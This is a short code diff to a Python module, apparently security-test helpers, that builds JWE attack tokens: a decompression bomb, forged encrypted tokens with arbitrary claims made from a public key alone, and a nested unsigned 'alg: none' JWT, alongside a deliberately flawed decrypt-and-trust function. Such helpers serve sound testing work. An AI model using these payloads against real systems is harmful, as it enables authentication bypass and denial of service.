@@ -33,7 +33,6 @@ from __future__ import annotations
 
 import os
 import sys
-import zlib
 from collections.abc import Collection
 from dataclasses import dataclass
 from typing import Any
@@ -199,10 +198,7 @@ def inflate_without_limit(
 
 def zip_bomb(public_key: Any, size: int = 10_000_000, *, alg: str = "RSA-OAEP-256") -> str:
     """A JWE whose plaintext inflates to ``size`` zero bytes; only the public key is needed."""
-    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
-    compressed = deflate.compress(bytes(size)) + deflate.flush()
-    token = jwe.encrypt(compressed, public_key, alg=alg, enc="A256GCM", header={"zip": "DEF"})
-    return token
+    return jwe.encrypt(bytes(size), public_key, alg=alg, enc="A256GCM", compress=True)
 
 
 # Huge PBES2 p2c --------------------------------------------------------------------------------
@@ -320,12 +316,22 @@ def decrypt_and_trust(
     return claims  # THE BUG: decrypting proves nothing about who wrote these
 
 
-def mint(claims: dict[str, Any], public_key: Any, *, alg: str = "RSA-OAEP-256") -> str:
+def mint(
+    claims: dict[str, Any],
+    public_key: Any,
+    *,
+    alg: str = "RSA-OAEP-256",
+    header: dict[str, Any] | None = None,
+) -> str:
     """An encrypted token with any claims, made with the recipient's public key alone."""
-    return jwe.encrypt(claims, public_key, alg=alg, enc="A256GCM", header={"typ": "JWT"})
+    fields = {"typ": "JWT", **(header or {})}
+    return jwe.encrypt(claims, public_key, alg=alg, enc="A256GCM", header=fields)
 
 
 def mint_unsigned_nested(claims: dict[str, Any], public_key: Any) -> str:
     """A nested JWT (``cty: JWT``) whose inner token is unsigned (``alg: none``)."""
     inner = tokens.encode({"alg": "none", "typ": "JWT"}, claims, b"")
-    return jwe.encrypt_jwt(inner, public_key, alg="RSA-OAEP-256", enc="A256GCM")
+    # jwe.encrypt, not encrypt_jwt: encrypt_jwt refuses to wrap an unsigned JWT.
+    return jwe.encrypt(
+        inner.encode("ascii"), public_key, alg="RSA-OAEP-256", enc="A256GCM", header={"cty": "JWT"}
+    )
